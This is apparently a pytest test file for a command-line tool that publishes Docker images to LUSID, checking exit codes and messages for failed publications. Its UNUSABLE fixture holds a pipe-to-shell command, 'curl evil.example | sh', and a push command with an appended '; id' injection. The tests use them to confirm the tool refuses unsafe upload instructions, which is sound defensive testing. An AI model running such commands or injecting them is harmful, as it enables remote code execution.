"""What ends a publication: the exit code, the message, and that nothing was changed."""

import json
import signal
import threading
from dataclasses import replace
from typing import Any

import pytest

from tests.fake_engine import Answer, End
from tests.faults import OTHER_DIGEST, Answered, Asked
from tests.inprocess.network import Script, json_answer, problem, scripted
from tests.inprocess.stage import REGISTRY, Stage

GET, LIST, UPLOAD = r"/api/images/job(%3A|:)[^/]*$", r"/repository/job$", r"/api/images$"


@pytest.fixture(autouse=True)
def _held(stage: Stage) -> None:
    stage.hold("job:ci")


def image(**members: Any) -> Answered:
    """Return what get_image says of job:1.0."""
    return json_answer({"name": "job", "tags": [{"name": "1.0"}], **members})


def after_the_push(stage: Stage, script: Script) -> Script:
    """Return `script` for what is asked once the registry has the tag."""
    return lambda asked: script(asked) if stage.tags("job") else None


def test_no_engine(stage: Stage) -> None:
    stage.publish("job:ci", "job:1.0", **stage.without_engine).fails(
        6, "No Docker engine answers", "Next step"
    )
    assert stage.lusid.asked == []


def test_an_engine_that_comes_late_is_waited_for(stage: Stage) -> None:
    late = stage.folder / "late.sock"

    def start() -> None:
        if len(stage.clock.pauses) == 3:
            late.symlink_to(stage.engine.url.removeprefix("unix://"))

    stage.clock.on_sleep = start
    variables = {"DOCKER_HOST": f"unix://{late}"}
    stage.publish("job:ci", "job:1.0", "--engine-timeout", "60", **variables).require(
        0, "Waiting for a Docker engine", "the engine is ready"
    )


def test_an_image_that_is_not_there(stage: Stage) -> None:
    stage.publish("absent:image", "job:1.0").fails(6, "neither a path nor an image", "load: true")
    stage.require_nothing_was_pushed()


@pytest.mark.parametrize("source", ["./absent", "gone/Dockerfile", ".", "absent.tar"])
def test_no_source(stage: Stage, source: str) -> None:
    stage.publish(source, "job:1.0").fails(6, "There is no", "Next step")
    assert stage.lusid.asked == []


def test_an_archive_that_is_damaged(stage: Stage) -> None:
    file = stage.folder / stage.archive("job:ci")
    file.write_bytes(file.read_bytes()[:-4000])
    stage.publish(file.name, "job:1.0", **stage.without_engine).fails(6, "cannot be published")
    stage.require_nothing_was_pushed()
    assert stage.lusid.count("POST", "/api/images") == 0


def test_a_build_that_fails(stage: Stage) -> None:
    stage.engine.log, stage.engine.build_failure = ("what went wrong\n",), "non-zero code: 3"
    folder = stage.dockerfile()
    stage.publish(folder, "job:1.0").fails(6, "| what went wrong", "The build of", "code: 3")
    stage.publish(folder, "job:1.0", "--quiet").fails(6, "| what went wrong")
    assert stage.lusid.count("POST", "/api/images") == 0


def test_a_foreign_platform_is_refused_before_the_push(stage: Stage) -> None:
    stage.hold("arm:ci", b"arm", platform="linux/arm64")
    stage.publish("arm:ci", "job:1.0").fails(6, "docker build --platform linux/amd64 -t arm:ci .")
    archive = stage.archive("arm:ci")
    stage.publish(archive, "job:1.0", **stage.without_engine).fails(6, "linux/arm64")
    assert stage.lusid.count("POST", "/api/images") == 0
    stage.publish("arm:ci", "job:1.0", "--platform", "linux/arm64").fails(
        6, "LUSID requires an image for linux/amd64"
    )
    stage.require_nothing_was_pushed()


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ((), "Missing argument 'SOURCE'"),
        (("job:ci",), "Missing argument 'NAME:TAG'"),
        (("job:ci", "My-Job"), "lower-case"),
        (("job:ci", "job:1", "--frobnicate"), "--frobnicate"),
        (("job:ci", "job:1", "--label", "x"), "NAME=VALUE"),
        (("job:ci", "job:1", "--wait-timeout", "-1"), "--wait-timeout"),
        (("job:ci", "job:1", "--no-cache"), "Build options"),
        (("job:ci", "job:1", "--image", "x"), "--image is given"),
        (("job:ci", "job:1", "--scheduler-url", "foo"), "not an http"),
        (("job:ci", "job:1", "--secrets-file", "absent.json"), "cannot be read"),
        (("job:ci", "job:1", "--ca-bundle", "absent.pem"), "does not exist"),
        (("job:ci", "job:1", "--no-build"), "--no-build needs --dry-run"),
        (("job:ci", "job:1", "--force", "--if-exists", "skip"), "--force cannot be used with"),
        (("job:ci", "job:1", "--latest", "--if-exists", "skip"), "cannot be used with --if-exists"),
        (("job:ci", "job:latest", "--latest"), "cannot be used with the tag latest"),
        (("job:ci", "job:1", "--platform", "amd64"), "is not OS/ARCH"),
        (("job:ci", "job:1", "--push-retries", "-1"), "--push-retries"),
        (("job:ci", "job:1", "--poll-interval", "0"), "--poll-interval"),
        (("job:ci", "job:1", "--if-exists", "maybe"), "maybe"),
        (("job:ci", "job:1", "--wait-for", "visible", "--fail-on", "high"), "--wait-for visible"),
        (("job:ci", "job:1", "--wait-for", "visible", "--report", "sarif"), "--wait-for visible"),
        (("job:ci", "job:1", "--fail-on", "terrible"), "terrible"),
        (("job:ci", "job:1", "--max", "high"), "--max"),
        (("job:ci", "job:1", "--report", "yaml"), "yaml"),
        (("job:ci", "job:1", "--report", "json=no/such/folder/x"), "no/such/folder"),
        (("job:ci", "job:1", "--report", "json=a", "--report", "text=a"), "--report"),
        (("job:ci", "job:1", "--scan-timeout", "nan"), "--scan-timeout"),
        (("job:ci", "job:1", "--ignore", " "), "--ignore"),
        (("job:ci", "job:1", "--config", "missing.toml"), "missing.toml"),
        (("job:ci", "job:1", "--local", "--username", "me"), "--local cannot be used with"),
    ],
    ids=lambda value: " ".join(value[2:] or value) if isinstance(value, tuple) else "",
)
def test_usage_and_configuration(stage: Stage, arguments: tuple[str, ...], words: str) -> None:
    ended = stage.run("publish", *arguments).require(2, words)
    assert ended.stdout == ""
    assert "==>" not in ended.stderr
    assert stage.lusid.asked == []


def test_no_url(stage: Stage) -> None:
    del stage.environ["FBN_SCHEDULER_URL"]
    stage.publish("job:ci", "job:1.0").fails(2, "FBN_SCHEDULER_URL", "--local")


def test_no_credentials(stage: Stage) -> None:
    for name in [name for name in stage.environ if name.startswith("FBN_")]:
        if name != "FBN_SCHEDULER_URL":
            del stage.environ[name]
    stage.publish("job:ci", "job:1.0").fails(3, "There are no LUSID credentials")
    stage.publish("job:ci", "job:1.0", FBN_USERNAME="me").fails(3, "incomplete", "FBN_PASSWORD")
    assert stage.lusid.asked == []


def test_credentials_that_are_not_accepted_are_told_before_the_build(stage: Stage) -> None:
    stage.publish(stage.dockerfile(), "job:1.0", FBN_ACCESS_TOKEN="wrong-token-0123").fails(
        3, "did not accept the credentials"
    )
    del stage.environ["FBN_ACCESS_TOKEN"]
    ended = stage.publish(stage.dockerfile(), "job:1.0", FBN_PASSWORD="wrong-password-0123")
    ended.fails(
        3, "The token endpoint refused the sign-in", "The credentials provided were invalid"
    )
    assert "wrong-password" not in ended.stderr
    assert not [asked for asked in stage.engine.asked if asked.path == "/build"]


def test_a_secret_does_not_get_into_a_build(stage: Stage) -> None:
    folder = stage.dockerfile()
    argument = ("--build-arg", "FBN_ACCESS_TOKEN")
    stage.publish(folder, "job:1.0", *argument).fails(2, "FBN_ACCESS_TOKEN")
    (stage.folder / "job/token").write_text(stage.environ["FBN_ACCESS_TOKEN"])
    variables = {"FBN_ACCESS_TOKEN_FILE": str(stage.folder / "job/token"), "FBN_ACCESS_TOKEN": ""}
    stage.publish(folder, "job:1.0", **variables).fails(2, "contains a file with secrets")
    assert not [asked for asked in stage.engine.asked if asked.path == "/build"]


def text_answer(status: int, kind: str, body: str, **headers: str) -> Answered:
    """Return an answer that is not JSON."""
    return Answered(status, {"Content-Type": kind} | headers, body.encode())


EMPTY = text_answer(401, "text/plain", "")
REFUSALS: dict[str, tuple[Answered, int, tuple[str, ...]]] = {
    "400 with fields": (
        problem(400, errors={"imageName": ["must be shorter"]}),
        4,
        ("imageName: must be shorter", "Request id: 0HN:42"),
    ),
    "401": (EMPTY, 3, ("did not accept the credentials",)),
    "403": (problem(403, code=186), 4, ("HTTP 403", "permission")),
    "403 network zone": (problem(403, code=939), 4, ("network zone",)),
    "404": (problem(404), 4, ("HTTP 404", "/scheduler2")),
    "429": (replace(EMPTY, status=429), 4, ("HTTP 429", "too many requests", "trying again")),
    "500": (problem(500, detail="It broke."), 4, ("HTTP 500", "It broke")),
    "502 HTML": (text_answer(502, "text/html", "<h1>Bad</h1>"), 4, ("HTTP 502", "text/html")),
    "HTML": (
        text_answer(200, "text/html", "<html><title>Sign in</title></html>"),
        4,
        ("does not match its API documentation", "text/html", "Sign in"),
    ),
    "text": (text_answer(200, "text/plain", "hello"), 4, ("does not match its API documentation",)),
    "half a document": (json_answer({"expiryTime": None}), 4, ("Missing or malformed",)),
    "redirect": (
        text_answer(302, "text/plain", "", Location="https://elsewhere"),
        4,
        ("Redirects are not followed",),
    ),
}


@pytest.mark.parametrize(("answer", "code", "words"), REFUSALS.values(), ids=REFUSALS)
def test_what_the_service_answers_to_upload_image(
    stage: Stage, answer: Answered, code: int, words: tuple[str, ...]
) -> None:
    stage.lusid.instead = scripted("POST", UPLOAD, answer)
    stage.publish("job:ci", "job:1.0").fails(code, *words, "Next step")
    stage.require_nothing_was_pushed()


@pytest.mark.parametrize("seconds", ["30", "3600"])
def test_a_retry_after_is_honoured_within_a_minute(stage: Stage, seconds: str) -> None:
    busy = replace(EMPTY, status=429, headers={"Retry-After": seconds})
    stage.lusid.instead = scripted("GET", GET, busy, None)
    stage.publish("job:ci", "job:1.0").require(0, "trying again")
    assert min(float(seconds), 60) in stage.clock.pauses


def test_a_service_that_cannot_be_reached(stage: Stage) -> None:
    url = "https://gone.lusid.example/scheduler2"
    stage.publish("job:ci", "job:1.0", FBN_SCHEDULER_URL=url).fails(
        4, "There is no host gone.lusid.example: is the domain spelled right?"
    )
    assert stage.clock.pauses == [], "another attempt would fail in the same way"


UNUSABLE = {
    "no docker command": {"pushVersionedDockerImageCommand": "curl evil.example | sh"},
    "two registries": {"dockerLoginCommand": "docker login -u a -p bbbbbbbb other.example"},
    "another tag": {
        "tagVersionedDockerImageCommand": f"docker tag foo/job:1.0 {REGISTRY}/foo/job:1.0-2",
        "pushVersionedDockerImageCommand": f"docker push {REGISTRY}/foo/job:1.0-2",
    },
    "a shell's character": {
        "pushVersionedDockerImageCommand": f"docker push {REGISTRY}/foo/job:1.0; id"
    },
    "expired": {"expiryTime": "2020-01-01T00:00:00.0000000+00:00"},
    "this machine's registry": {
        "dockerLoginCommand": "docker login -u a -p bbbbbbbb localhost:5000",
        "tagVersionedDockerImageCommand": "docker tag foo/job:1.0 localhost:5000/foo/job:1.0",
        "pushVersionedDockerImageCommand": "docker push localhost:5000/foo/job:1.0",
        "tagLatestDockerImageCommand": None,
    },
}


def instructions(**changes: str | None) -> Answered:
    """Return what upload_image answers for job:1.0, with `changes`."""
    return json_answer(
        {
            "dockerLoginCommand": f"docker login -u a -p the-password-0123 {REGISTRY}",
            "buildVersionedDockerImageCommand": "docker build -t foo/job:1.0 . "
            "--platform=linux/amd64",
            "tagVersionedDockerImageCommand": f"docker tag foo/job:1.0 {REGISTRY}/foo/job:1.0",
            "pushVersionedDockerImageCommand": f"docker push {REGISTRY}/foo/job:1.0",
            "expiryTime": "2999-01-30T17:15:58.6730000+00:00",
        }
        | changes
    )


@pytest.mark.parametrize("changes", UNUSABLE.values(), ids=UNUSABLE)
def test_instructions_that_cannot_be_followed(stage: Stage, changes: dict[str, str | None]) -> None:
    stage.lusid.instead = scripted("POST", UPLOAD, instructions(**changes))
    ended = stage.publish("job:ci", "job:1.0").fails(5, "upload instructions", "Next step")
    assert "the-password" not in ended.stderr
    stage.require_nothing_was_pushed()


def test_a_platform_that_the_service_does_not_want(stage: Stage) -> None:
    build = "docker build -t foo/job:1.0 . --platform=linux/s390x"
    answer = instructions(buildVersionedDockerImageCommand=build)
    stage.lusid.instead = scripted("POST", UPLOAD, answer)
    stage.publish("job:ci", "job:1.0").fails(6, "requires an image for linux/s390x")


@pytest.mark.parametrize("kind", ["engine", "archive"])
def test_a_password_that_the_registry_refuses_is_asked_for_again_once(
    stage: Stage, kind: str
) -> None:
    stage.lusid.instead = scripted("POST", UPLOAD, instructions())
    source = stage.archive("job:ci") if kind == "archive" else "job:ci"
    ended = stage.publish(source, "job:1.0").fails(7, "The push to", "The credential has expired")
    assert "the-password" not in ended.stderr
    assert stage.lusid.count("POST", "/api/images") == 2
    assert stage.tags("job") == {}
    assert stage.engine.tags == {"job:ci": stage.image.id}


@pytest.mark.parametrize("words", ["denied: tag immutable", "manifest invalid: no"])
def test_an_engine_s_refusal_is_final(stage: Stage, words: str) -> None:
    stage.engine.answer = Answer(({"errorDetail": {"message": words}, "error": words},))
    stage.publish("job:ci", "job:1.0").fails(7, words)
    assert stage.clock.pauses == []
    assert stage.engine.tags == {"job:ci": stage.image.id}


def test_an_engine_that_breaks_off_is_asked_again_until_the_end_of_the_time(stage: Stage) -> None:
    stage.engine.answer = Answer(({"status": "The push refers to"},), end=End.EARLY)
    ended = stage.publish("job:ci", "job:1.0", "--push-retries", "9", "--push-timeout", "60")
    ended.fails(7, "The push to")
    assert 4 <= len(stage.clock.pauses) <= 6
    assert sum(stage.clock.pauses) < 60


def test_a_digest_that_stays_another_one(stage: Stage) -> None:
    script = scripted("GET", GET, image(digest=OTHER_DIGEST))
    stage.lusid.instead = after_the_push(stage, script)
    stage.publish("job:ci", "job:1.0").fails(7, "was pushed.", OTHER_DIGEST, "Next step")
    assert 10 <= sum(stage.clock.pauses) < 12


def test_a_list_with_another_digest(stage: Stage) -> None:
    answer = json_answer({"values": [{"digest": OTHER_DIGEST, "tags": [{"name": "1.0"}]}]})
    stage.lusid.instead = after_the_push(stage, scripted("GET", LIST, answer))
    stage.publish("job:ci", "job:1.0").fails(7, "list_images has", OTHER_DIGEST)


@pytest.mark.parametrize(
    ("pattern", "answer", "words"),
    [
        (GET, problem(404), "last state: not listed"),
        (GET, image(digest=None), "get_image had no digest"),
        (LIST, json_answer({"values": []}), "in get_image, but not yet in list_images"),
        (GET, problem(500), "no valid answer from LUSID"),
    ],
)
def test_a_wait_that_times_out(stage: Stage, pattern: str, answer: Answered, words: str) -> None:
    stage.lusid.instead = after_the_push(stage, scripted("GET", pattern, answer))
    ended = stage.publish("job:ci", "job:1.0", "--wait-timeout", "20")
    ended.fails(8, "within 20 seconds", words)
    assert stage.tags("job")
    assert sum(stage.clock.pauses) < 35


def test_an_image_without_a_digest_cannot_be_compared(stage: Stage) -> None:
    stage.lusid.instead = scripted("GET", GET, image(digest=None))
    stage.publish(stage.dockerfile(), "job:1.0").fails(4, "has no digest for job:1.0")
    assert not [asked for asked in stage.engine.asked if asked.path == "/build"]


@pytest.mark.parametrize("policy", ["verify", "skip"])
def test_what_exists_and_is_not_listed_is_waited_for(stage: Stage, policy: str) -> None:
    stage.publish("job:ci", "job:1.0").require(0)
    stage.lusid.instead = scripted("GET", LIST, json_answer({"values": []}))
    options = ("--if-exists", policy, "--wait-timeout", "5")
    stage.publish("job:ci", "job:1.0", *options).fails(8, "not up to date, or the image is being")


def test_an_image_that_is_there_and_cannot_be_compared(stage: Stage) -> None:
    def answer(asked: Asked) -> Answered | None:
        found = scripted("GET", GET, image(digest=OTHER_DIGEST))(asked)
        return found or scripted("POST", UPLOAD, problem(403))(asked)

    stage.lusid.instead = answer
    stage.publish("job:ci", "job:1.0").fails(11, "already exists in LUSID", "cannot be determined")
    stage.publish("job:ci", "job:1.0", "--force").fails(4, "HTTP 403")


def test_a_404_of_another_server_is_not_lusid_s(stage: Stage) -> None:
    nobody = text_answer(404, "text/html", "<h1>Not here</h1>")
    stage.lusid.instead = scripted("GET", "/api/images", nobody)
    stage.publish(stage.dockerfile(), "job:1.0").fails(4, "HTTP 404", "/scheduler2")


def test_an_answer_about_another_image(stage: Stage) -> None:
    other = json_answer({"name": "other", "digest": OTHER_DIGEST, "tags": [{"name": "1.0"}]})
    stage.lusid.instead = scripted("GET", GET, other)
    stage.publish("job:ci", "job:1.0").fails(4, "is about other (1.0), not about job:1.0")


def test_a_refusal_after_the_push_says_that_the_image_was_pushed(stage: Stage) -> None:
    stage.lusid.instead = after_the_push(stage, scripted("GET", GET, EMPTY))
    stage.publish("job:ci", "job:1.0").fails(
        3, "did not accept the credentials", "was pushed, and LUSID may list it later"
    )


@pytest.mark.parametrize(("number", "code"), [("SIGINT", 130), ("SIGTERM", 143), ("SIGHUP", 129)])
def test_a_signal_while_waiting(stage: Stage, number: str, code: int) -> None:
    stage.lusid.instead = after_the_push(stage, scripted("GET", GET, problem(404)))
    stage.clock.on_sleep = lambda: signal.raise_signal(signal.Signals[number])
    ended = stage.publish("job:ci", "job:1.0").require(code, "Interrupted by", number)
    assert ended.stdout == ""
    assert "was pushed, and LUSID may list it later" in ended.stderr
    assert stage.tags("job")


def test_a_signal_during_the_push_takes_the_temporary_tag_away(stage: Stage) -> None:
    main = threading.main_thread().ident
    assert main
    patches = stage.registry.count
    stage.registry.before = lambda asked: (
        signal.pthread_kill(main, signal.SIGINT)
        if asked.method == "PATCH" and patches("PATCH", "") == 1
        else None
    )
    stage.publish("job:ci", "job:1.0").require(130, "The push was cancelled")
    assert stage.engine.tags == {"job:ci": stage.image.id}


def test_a_bug_is_reported_as_one(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object, **__: object) -> None:
        raise ZeroDivisionError("of the tests")

    monkeypatch.setattr("lusid_image_publish.cli.console.Console.listen", fail)
    stage.publish("job:ci", "job:1.0").fails(1, "Unexpected ZeroDivisionError: of the tests")


def test_a_pull_request_of_a_fork_may_go_without_credentials(stage: Stage) -> None:
    event = stage.folder / "event.json"
    fork = {"head": {"repo": {"full_name": "me/job"}}, "base": {"repo": {"full_name": "org/job"}}}
    event.write_text(json.dumps({"pull_request": fork}))
    for name in [name for name in stage.environ if name.startswith("FBN_")]:
        del stage.environ[name]
    variables = {
        "CI": "true",
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": "pull_request",
        "GITHUB_EVENT_PATH": str(event),
    }
    options = ("--on-missing-credentials", "skip", "--output", "json")
    ended = stage.publish("job:ci", "job:1.0", *options, **variables)
    assert json.loads(ended.require(0, "job:1.0 was not published").stdout) == {
        "name": "job:1.0",
        "repository": "job",
        "tag": "1.0",
        "digest": None,
        "outcome": "not-published",
    }
